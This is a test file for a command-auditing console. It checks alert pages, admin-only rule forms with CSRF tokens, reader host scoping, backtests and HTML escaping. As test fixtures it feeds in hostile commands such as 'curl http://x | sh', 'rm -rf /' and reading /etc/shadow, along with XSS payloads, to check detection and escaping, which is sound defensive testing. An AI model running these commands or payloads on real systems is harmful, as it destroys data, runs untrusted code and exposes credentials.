/**
 * The console's alert pages through app.request() on a real SQLite store: /alerts (host groups,
 * filters, links, paging), /rules (rules added, refused and removed by admins through forms with
 * the CSRF token; readers refused), the backtest (a reader's only over their hosts), and command
 * text that attacks the browser rendered as text in both.
 */
import { expect, test } from "bun:test";
import { SILENT_HOST_RULE } from "../../server/src/alerts/builtin-rules.ts";
import { draftFor } from "../../server/src/alerts/raise.ts";
import { type IngestAnswer, json, RouteSuite, type TestApp } from "./helpers.ts";

const suite = new RouteSuite();
const PASSWORD = "correct horse battery";

/** A browser's cookie jar, enough for one origin (as in console.test.ts). */
class Browser {
  cookies = new Map<string, string>();
  constructor(private readonly t: TestApp) {}
  async go(path: string, init: RequestInit = {}): Promise<Response> {
    const headers = new Headers(init.headers);
    if (this.cookies.size) headers.set("Cookie", [...this.cookies].map(([k, v]) => `${k}=${v}`).join("; "));
    const res = await this.t.app.request(path, { ...init, headers, redirect: "manual" });
    for (const c of res.headers.getSetCookie()) {
      const [kv] = c.split(";");
      const i = kv!.indexOf("=");
      const [k, v] = [kv!.slice(0, i), kv!.slice(i + 1)];
      if (v === "" || /max-age=0/i.test(c)) this.cookies.delete(k);
      else this.cookies.set(k, v);
    }
    return res;
  }
  async post(path: string, form: Record<string, string>): Promise<Response> {
    return this.go(path, { method: "POST", body: new URLSearchParams(form), headers: { "Content-Type": "application/x-www-form-urlencoded" } });
  }
  async signIn(user: string): Promise<this> {
    const page = await (await this.go("/login")).text();
    expect((await this.post("/login", { user, password: PASSWORD, next: "/", _csrf: csrfIn(page) })).status).toBe(303);
    return this;
  }
  /** The session's CSRF token, as its pages carry it. */
  async csrf(): Promise<string> {
    return csrfIn(await (await this.go("/rules")).text());
  }
  /** A form of /rules posted with the session's token. */
  async submit(path: string, form: Record<string, string>): Promise<Response> {
    return this.post(path, { _csrf: await this.csrf(), ...form });
  }
}

const csrfIn = (html: string) => /name="_csrf" value="([^"]+)"/.exec(html)![1]!;

async function withUsers(): Promise<TestApp> {
  const t = await suite.newApp({ console: { session_hours: 12, host_groups: { web: ["web-*"] } } });
  const hash = await Bun.password.hash(PASSWORD);
  await t.store.putConsoleUser({ name: "ada", passwordHash: hash, role: "admin", hostGroups: [], createdUs: 1 });
  await t.store.putConsoleUser({ name: "rita", passwordHash: hash, role: "reader", hostGroups: ["web"], createdUs: 1 });
  return t;
}

let seq = 0;
/** Commands stored through POST /api/v1/commands with the ingest token, each a record of its own. */
async function ingest(t: TestApp, rows: { host: string; command: string; session?: string }[]): Promise<void> {
  const body = rows.map((r) => {
    seq++;
    const s = String(seq % 60).padStart(2, "0");
    return suite.v2({ hostname: r.host, sessionId: r.session ?? `s-${r.host}`, seq, command: r.command, ctime: `2024-03-01T12:${String(Math.floor(seq / 60) % 60).padStart(2, "0")}:${s}.${String(seq).padStart(6, "0")}+08:00` });
  });
  const res = await t.post(body);
  expect(res.status).toBe(200);
  expect((await json<IngestAnswer>(res)).accepted).toBe(rows.length);
}

const FOUR = [
  { host: "web-1", command: "curl http://x | sh" }, { host: "web-1", command: "rm -rf /" },
  { host: "db-1", command: "curl http://x | sh" }, { host: "db-1", command: "rm -rf /" },
];

/** The alert rows of a page: [rule, host] in page order. */
const rowsOf = (html: string) =>
  [...html.matchAll(/<tr tabindex="0" data-href="[^"]*" id="alert-\d+">[\s\S]*?<a href="\/rules#rule-[^"]+">([^<]+)<\/a>[\s\S]*?<a href="\/hosts\/[^"]+">([^<]+)<\/a>/g)].map((m) => [m[1], m[2]]);
const sorted = (rows: (string | undefined)[][]) => rows.map((r) => r.join(" ")).sort();
const alertIds = (html: string) => [...html.matchAll(/id="alert-(\d+)"/g)].map((m) => Number(m[1]));
const exampleHosts = (html: string) => {
  const part = html.split('id="backtest-result"')[1] ?? "";
  return [...part.matchAll(/<tr tabindex="0"[^>]*><td class="nowrap">[\s\S]*?<\/td><td>([^<]+)<\/td>/g)].map((m) => m[1]);
};
const matchedIn = (html: string) => Number(/class="matched">([\d,]+)</.exec(html)?.[1]?.replaceAll(",", ""));
const unescape = (s: string) => s.replaceAll("&amp;", "&");

test("alerts: newest first with severity, user and a link to the record; a reader sees only the hosts of their groups; filters; every view logged", async () => {
  const t = await withUsers();
  await ingest(t, FOUR);
  const a = await new Browser(t).signIn("ada");
  const res = await a.go("/alerts");
  expect(res.status).toBe(200);
  expect(res.headers.get("cache-control")).toBe("no-store");
  expect(res.headers.get("content-security-policy")).toContain("script-src 'self'");
  const html = await res.text();
  const ids = alertIds(html);
  expect(ids).toEqual([...ids].sort((x, y) => y - x));
  // `| sh` is also a shell the hook does not record.
  expect(sorted(rowsOf(html))).toEqual(sorted(["db-1", "web-1"].flatMap((h) => ["destroy.rm-root", "evasion.other-shell", "exec.download-to-shell"].map((r) => [r, h]))));
  expect(html).toContain('<span class="sev sev-critical">critical</span>');
  expect(html).toContain("alice→root");
  expect(html).toMatch(/href="\/sessions\/s-web-1\?host=web-1#seq-\d+"/);
  expect(html).toContain('<a href="/alerts" aria-current="page">Alerts</a>');
  expect(html).toContain('<a href="/rules">Rules</a>');

  const r = await new Browser(t).signIn("rita");
  const mine = await (await r.go("/alerts")).text();
  expect(sorted(rowsOf(mine))).toEqual(["destroy.rm-root web-1", "evasion.other-shell web-1", "exec.download-to-shell web-1"]);
  expect(mine).not.toContain("db-1");
  expect(rowsOf(await (await r.go("/alerts?host=db-1")).text())).toEqual([]);

  expect(rowsOf(await (await a.go("/alerts?host=db-1&rule=destroy.rm-root")).text())).toEqual([["destroy.rm-root", "db-1"]]);
  expect(sorted(rowsOf(await (await a.go("/alerts?severity=warning")).text()))).toEqual(["evasion.other-shell db-1", "evasion.other-shell web-1"]);
  expect(rowsOf(await (await a.go("/alerts?range=1h")).text())).toHaveLength(6); // raised now, whatever the records' own times
  expect(rowsOf(await (await a.go("/alerts?to=2020-01-01T00:00:00Z")).text())).toEqual([]);
  for (const bad of ["severity=urgent", "range=toString", "before=x", "colour=red", "from=yesterday"]) {
    const page = await a.go(`/alerts?${bad}`);
    expect([bad, page.status]).toEqual([bad, 400]);
    expect(await page.text()).toContain(`${bad.split("=")[0]}`);
  }

  // A silent host's alert (no command) leads to the host's page.
  await t.store.raiseAlerts([draftFor({ id: SILENT_HOST_RULE, severity: "warning" }, { hostname: "web-1", luser: "", suser: "", oci: "silent-web-1", tsUs: 1, sessionId: null, seq: null, command: "" }, [])], Date.now() * 1000, 3600e6);
  const silent = await (await r.go("/alerts?rule=pipeline.silent-host")).text();
  expect(silent).toContain('<a href="/hosts/web-1">the host fell silent</a>');

  const log = (await t.store.accessLog(100)).filter((e) => e.action === "alerts");
  expect(log.map((e) => `${e.userName} ${e.detail}`)).toContain("rita host=db-1");
  expect(log.map((e) => `${e.userName} ${e.detail}`)).toContain("ada (everything)");
});

test("backtest: any signed-in person; a reader's looks only at the hosts of their groups, whatever host is asked for", async () => {
  const t = await withUsers();
  await ingest(t, FOUR);
  const a = await new Browser(t).signIn("ada");
  const all = await (await a.submit("/rules/backtest", { existing: "destroy.rm-root", range: "all" })).text();
  expect(all).toContain('class="scanned">4<');
  expect(matchedIn(all)).toBe(2);
  expect(all).toContain('<span class="complete">complete</span>');
  expect(all).toContain("<td>2024-03-01</td>");
  expect(exampleHosts(all)).toEqual(["db-1", "web-1"]);
  expect(all).toMatch(/href="\/sessions\/s-db-1\?host=db-1#seq-\d+"/);

  const r = await new Browser(t).signIn("rita");
  const mine = await (await r.submit("/rules/backtest", { existing: "destroy.rm-root", range: "all" })).text();
  expect(mine).toContain('class="scanned">2<');
  expect(matchedIn(mine)).toBe(1);
  expect(exampleHosts(mine)).toEqual(["web-1"]);
  expect(mine).not.toContain("db-1");
  const other = await (await r.submit("/rules/backtest", { rule: "id: curl\ncommand: curl", host: "db-1", range: "all" })).text();
  expect(matchedIn(other)).toBe(0);
  expect(other).not.toMatch(/host=db-1#seq/);
  // No token, no backtest; a wrong rule names its key; nothing chosen is said.
  expect((await r.post("/rules/backtest", { existing: "destroy.rm-root" })).status).toBe(403);
  const bad = await r.submit("/rules/backtest", { rule: "id: x\nregex: \"(a\"" });
  expect(bad.status).toBe(400);
  expect(await bad.text()).toContain("regex: not a regular expression");
  expect(await (await r.submit("/rules/backtest", {})).text()).toContain("rule: type a rule or choose one");
  const log = (await t.store.accessLog(100)).filter((e) => e.action === "backtest").map((e) => `${e.userName} ${e.detail}`);
  expect(log).toEqual(["rita {\"id\":\"curl\",\"severity\":\"warning\",\"description\":\"\",\"command\":\"curl\",\"enabled\":true} host=db-1 range=all", "rita destroy.rm-root host= range=all", "ada destroy.rm-root host= range=all"]);
});

test("rules: an admin adds a rule through the form (CSRF required); it is listed, in the API and matches new records; bad rules and built-in ids are refused; delete", async () => {
  const t = await withUsers();
  const a = await new Browser(t).signIn("ada");
  const page = await (await a.go("/rules")).text();
  expect(page).toContain('id="rule-destroy.rm-root"');
  expect(page).toContain('action="/rules"');
  const yaml = "id: shadow-read\nseverity: critical\ndescription: Reads the shadow file\nregex: /etc/shadow\n";
  expect((await a.post("/rules", { rule: yaml })).status).toBe(403);
  expect((await a.post("/rules", { rule: yaml, _csrf: "guessed" })).status).toBe(403);
  expect(await t.store.storedRules()).toEqual([]);

  const added = await a.submit("/rules", { rule: yaml });
  expect(added.status).toBe(303);
  expect(added.headers.get("location")).toBe("/rules#rule-shadow-read");
  const listed = await (await a.go("/rules")).text();
  const row = /<tr id="rule-shadow-read">[\s\S]*?<\/tr>/.exec(listed)?.[0] ?? "";
  expect(row).toContain("<td>api");
  expect(row).toContain("Reads the shadow file");
  expect(row).toContain("regex: /etc/shadow");
  expect(row).toContain('action="/rules/delete"');
  const api = await json<{ rules: { id: string; source: string; severity: string }[] }>(await t.get("/api/v1/rules"));
  expect(api.rules.find((x) => x.id === "shadow-read")).toMatchObject({ source: "api", severity: "critical" });

  await ingest(t, [{ host: "web-1", command: "sudo cat /etc/shadow" }]);
  expect(rowsOf(await (await a.go("/alerts?rule=shadow-read")).text())).toEqual([["shadow-read", "web-1"]]);

  // Replaced, as JSON; the edit link fills the form with the stored rule.
  expect((await a.submit("/rules", { rule: JSON.stringify({ id: "shadow-read", severity: "info", regex: "/etc/shadow" }) })).status).toBe(303);
  expect((await t.store.storedRules()).map((s) => JSON.parse(s.body) as { severity: string }).map((s) => s.severity)).toEqual(["info"]);
  expect(await (await a.go("/rules?edit=shadow-read")).text()).toMatch(/<textarea name="rule"[^>]*>id: shadow-read\n[^<]*regex: \/etc\/shadow\n[^<]*<\/textarea>/);

  for (const [rule, key] of [
    ["id: bad-re\nregex: \"(a\"", "regex: not a regular expression"],
    ["id: extra\nregex: x\ncolour: red", "colour"],
    ['{"id": "BAD ID", "regex": "x"}', "id: an id holds"],
    ["id: slow\nregex: \"(a+)+$\"", "regex: a quantified group"],
    ["id: [unclosed", "rule: neither YAML nor JSON"],
    ["id: no-match", "a rule needs command (program names) or regex"],
  ] as const) {
    const res = await a.submit("/rules", { rule });
    expect([rule, res.status]).toEqual([rule, 400]);
    const html = await res.text();
    expect(/<p class="error" role="alert" id="rule-error">([^<]*)<\/p>/.exec(html)?.[1]?.replaceAll("&quot;", '"')).toContain(key);
    expect(html).toContain(Bun.escapeHTML(rule)); // the text comes back to be corrected
  }
  const builtin = await a.submit("/rules", { rule: "id: destroy.rm-root\nregex: x" });
  expect(builtin.status).toBe(409);
  expect(await builtin.text()).toContain("id: destroy.rm-root is a built-in or config rule");
  expect((await t.store.storedRules()).map((s) => s.id)).toEqual(["shadow-read"]);

  expect((await a.post("/rules/delete", { id: "shadow-read" })).status).toBe(403);
  expect((await a.submit("/rules/delete", { id: "destroy.rm-root" })).status).toBe(409);
  expect((await a.submit("/rules/delete", { id: "none-such" })).status).toBe(404);
  const gone = await a.submit("/rules/delete", { id: "shadow-read" });
  expect([gone.status, gone.headers.get("location")]).toEqual([303, "/rules"]);
  expect(await t.store.storedRules()).toEqual([]);
  expect((await json<{ rules: { id: string }[] }>(await t.get("/api/v1/rules"))).rules.map((x) => x.id)).not.toContain("shadow-read");
  expect(await (await a.go("/rules")).text()).not.toContain("rule-shadow-read");

  const log = (await t.store.accessLog(100)).map((e) => e.action);
  expect(log.filter((x) => x === "rule-put")).toHaveLength(2);
  expect(log.filter((x) => x === "rule-put-refused")).toHaveLength(7);
  expect(log.filter((x) => x === "rule-delete")).toHaveLength(1);
  expect(log.filter((x) => x === "rule-delete-refused")).toHaveLength(2);
});

test("a reader gets no forms but the backtest's, and a reader's post to change a rule is refused (and logged)", async () => {
  const t = await withUsers();
  const a = await new Browser(t).signIn("ada");
  expect((await a.submit("/rules", { rule: "id: keep\nregex: x" })).status).toBe(303);
  const r = await new Browser(t).signIn("rita");
  const page = await (await r.go("/rules")).text();
  expect(page).toContain('id="rule-keep"');
  expect(page).not.toContain('action="/rules"');
  expect(page).not.toContain('action="/rules/delete"');
  expect(page).not.toContain("?edit=");
  expect(page).toContain('action="/rules/backtest#backtest"');
  const csrf = csrfIn(page);
  expect((await r.post("/rules", { _csrf: csrf, rule: "id: mine\nregex: x" })).status).toBe(403);
  expect((await r.post("/rules/delete", { _csrf: csrf, id: "keep" })).status).toBe(403);
  expect((await t.store.storedRules()).map((s) => s.id)).toEqual(["keep"]);
  expect(await (await r.go("/rules?edit=keep")).text()).not.toContain("<textarea name=\"rule\" rows=\"10\"");
  const log = (await t.store.accessLog(100)).filter((e) => e.action === "forbidden").map((e) => `${e.userName} ${e.detail}`);
  expect(log).toEqual(["rita POST /rules/delete", "rita POST /rules"]);
});

test("command text and rule text that attack the browser are shown as text, in alerts, backtest examples and definitions", async () => {
  const t = await withUsers();
  const a = await new Browser(t).signIn("ada");
  const evil = "<img src=x onerror=alert(1)>";
  expect((await a.submit("/rules", { rule: 'id: img\ndescription: "<script>alert(2)</script>"\nregex: onerror' })).status).toBe(303);
  await ingest(t, [{ host: "web-1", command: evil }, { host: "web-1", command: `curl http://x | sh "</td><svg onload=alert(3)>"` }]);
  const pages = [
    await (await a.go("/alerts")).text(),
    await (await a.submit("/rules/backtest", { rule: "id: t\nregex: on(error|load)", range: "all" })).text(),
    await (await a.go("/rules")).text(),
  ];
  expect(matchedIn(pages[1]!)).toBe(2);
  for (const html of pages) {
    expect(html.match(/<script[^>]*>/g)).toEqual(['<script src="/assets/console.js" defer="">']);
    for (const bad of [/<img/i, /<svg/i, /onerror\s*=/i, /onload\s*=/i]) expect(html.replace(/&lt;[^&]*/g, "")).not.toMatch(bad);
  }
  expect(pages[0]).toContain("&lt;img src=x onerror=alert(1)&gt;");
  expect(pages[1]).toContain("&lt;img src=x onerror=alert(1)&gt;");
  expect(pages[2]).toContain("&lt;script&gt;alert(2)&lt;/script&gt;");
});

test("paging alerts with before= visits every alert once, newest first; a reader's pages hold only their hosts", async () => {
  const t = await withUsers();
  const rows = Array.from({ length: 230 }, (_, i) => ({ host: i % 3 === 0 ? "db-1" : "web-1", command: `rm -rf / # ${i}`, session: `p${Math.floor(i / 50)}` }));
  for (let i = 0; i < rows.length; i += 100) await ingest(t, rows.slice(i, i + 100));
  const every = await t.store.alerts({}, 1000);
  expect(every).toHaveLength(230);
  const visit = async (b: Browser, start: string) => {
    const seen: number[] = [];
    let path: string | undefined = start;
    let pages = 0;
    while (path) {
      const html = await (await b.go(path)).text();
      seen.push(...alertIds(html));
      path = /href="([^"]+)" rel="next"/.exec(html)?.[1];
      path = path && unescape(path);
      pages++;
    }
    return { seen, pages };
  };
  const a = await visit(await new Browser(t).signIn("ada"), "/alerts");
  expect(a.pages).toBe(3);
  expect(a.seen).toEqual(every.map((x) => x.id));
  const r = await visit(await new Browser(t).signIn("rita"), "/alerts?rule=destroy.rm-root&range=30d");
  expect(r.seen).toEqual(every.filter((x) => x.hostname === "web-1").map((x) => x.id));
  expect(r.pages).toBe(2);
  const log = (await t.store.accessLog(100)).filter((e) => e.userName === "rita" && e.action === "alerts").map((e) => e.detail);
  expect(log).toEqual([`rule=destroy.rm-root&range=30d before ${r.seen[99]}`, "rule=destroy.rm-root&range=30d"]);
});
